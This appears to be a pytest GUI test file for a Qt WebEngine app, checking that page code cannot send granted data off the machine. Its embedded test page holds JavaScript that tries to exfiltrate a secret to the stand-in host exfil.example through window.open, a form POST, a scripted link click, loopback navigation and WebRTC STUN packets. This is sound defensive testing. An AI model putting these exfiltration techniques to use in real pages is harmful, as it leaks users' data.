"""Page code with granted data tries to send it away from the real Qt window: nothing leaves.

The app runs as a person runs it (`python main.py screenshot`), with its engine's traffic sent
to the egress recorder (a proxy that forwards nothing) and a recording "system browser". The
page tries every way out the page policy (CSP) does not cover: top-level navigation, a form
POST, window.open and a scripted target=_blank click without a click by the person, another
program on a loopback port, and WebRTC's STUN packets.
"""

from __future__ import annotations

import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from window.harness import HERE, app_env, run_app, stop_app  # noqa: F401 - app_env is a fixture

pytestmark = pytest.mark.gui


class Listener:
    """A UDP socket (a STUN server) and a TCP socket (another program on a loopback port) that record what arrives."""

    def __init__(self) -> None:
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("0.0.0.0", 0))
        self.tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen(16)
        self.datagrams: list[tuple] = []
        self.connections: list[tuple] = []
        for target in (self._udp, self._tcp):
            threading.Thread(target=target, daemon=True).start()

    def _udp(self) -> None:
        while True:
            try:
                _, addr = self.udp.recvfrom(4096)
            except OSError:
                return
            self.datagrams.append(addr)

    def _tcp(self) -> None:
        while True:
            try:
                conn, addr = self.tcp.accept()
            except OSError:
                return
            self.connections.append(addr)
            conn.close()

    def close(self) -> None:
        self.udp.close()
        self.tcp.close()


def _own_address() -> str:
    """This machine's address on its outward interface (STUN packets to it leave through that interface)."""
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        probe.connect(("192.0.2.254", 9))  # (no packet is sent: connect() on UDP only picks a route)
        return probe.getsockname()[0]
    except OSError:
        return "127.0.0.1"
    finally:
        probe.close()


EXFIL_PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>Exfiltration</title></head>
<body><p id="out">trying…</p>
<form id="form" method="post" action="https://exfil.example/form"><input name="data" value="granted-secret"></form>
<a id="blank" href="https://exfil.example/blank?data=granted-secret" target="_blank">x</a>
<script>
const steps = [
  () => window.open("https://exfil.example/open?data=granted-secret"),
  () => document.getElementById("form").submit(),
  () => document.getElementById("blank").click(),
  () => { location.href = "http://127.0.0.1:%(tcp)d/?data=granted-secret"; },
  () => { location.href = "https://exfil.example/leak?data=granted-secret"; },
];
const log = [];
async function webrtc() {
  const found = [];
  try {
    const pc = new RTCPeerConnection({iceServers: [{urls: ["stun:127.0.0.1:%(udp)d", "stun:%(own)s:%(udp)d"]}]});
    pc.onicecandidate = (e) => e.candidate && found.push(e.candidate.candidate);
    pc.createDataChannel("leak");
    await pc.setLocalDescription(await pc.createOffer());
    await new Promise((r) => setTimeout(r, 4000));
    pc.close();
    return "candidates=" + found.length;
  } catch (e) { return "rtc-error " + e.name; }
}
addEventListener("load", async () => {
  for (const step of steps) {
    try { step(); log.push("ok"); } catch (e) { log.push(e.name); }
    await new Promise((r) => setTimeout(r, 400));
  }
  const rtc = await webrtc();
  document.getElementById("out").textContent = "exfil done " + rtc + " " + log.join(",");
});
</script></body></html>
"""


def test_page_code_cannot_send_data_away_from_the_window(app_env, egress, tmp_path):
    listener = Listener()
    try:
        page = tmp_path / "site" / "exfil.html"
        page.parent.mkdir()
        page.write_text(EXFIL_PAGE % {"tcp": listener.tcp.getsockname()[1], "udp": listener.udp.getsockname()[1],
                                      "own": _own_address()}, encoding="utf-8")
        env = app_env  # (its engine's traffic goes to the egress recorder: window/harness.py)
        shot = tmp_path / "exfil.png"
        result = run_app(env, "screenshot", str(page), str(shot), "--wait-for", "exfil done", "--timeout", "90")
        assert result.returncode == 0, result.stderr[-3000:]
        time.sleep(1)  # anything late still arrives
        browser_log = Path(app_env["BROWSER_LOG"])
        handed = browser_log.read_text().split() if browser_log.exists() else []
        assert handed == [], f"handed to the system browser without a click: {handed}"
        assert egress.page_traffic() == [], f"requests tried to leave the machine: {egress.page_traffic()}"
        assert listener.connections == [], "the page reached another program on a loopback port"
        assert listener.datagrams == [], f"WebRTC sent UDP packets: {listener.datagrams[:4]}"
        assert "Not handed to the system browser" in result.stderr or "Not handed to the system browser" in result.stdout
    finally:
        listener.close()


def test_the_window_engine_sends_off_machine_requests_to_the_recorder(app_env, egress):
    """The positive control of every window test's "nothing left the machine" (app_env's teardown): Qt
    WebEngine, started with the app's own flags and app_env's proxy, sends an off-machine request to
    the egress recorder, where it is seen. Were the proxy flag lost, that check would see nothing."""
    url = "http://192.0.2.7/egress-probe.png"  # (TEST-NET-1: no machine answers there anyway)
    probe = subprocess.Popen([sys.executable, str(HERE / "egress_probe.py"), url], env=app_env,
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 90
        while f"GET {url} HTTP/1.1" not in egress.seen and time.monotonic() < deadline and probe.poll() is None:
            time.sleep(0.2)
    finally:
        out, err = stop_app(probe)
    assert f"GET {url} HTTP/1.1" in egress.seen, f"the recorder saw {egress.seen}; the probe said: {err[-2000:]}"
    egress.seen.remove(f"GET {url} HTTP/1.1")  # (app_env's teardown then checks that nothing else was sent)
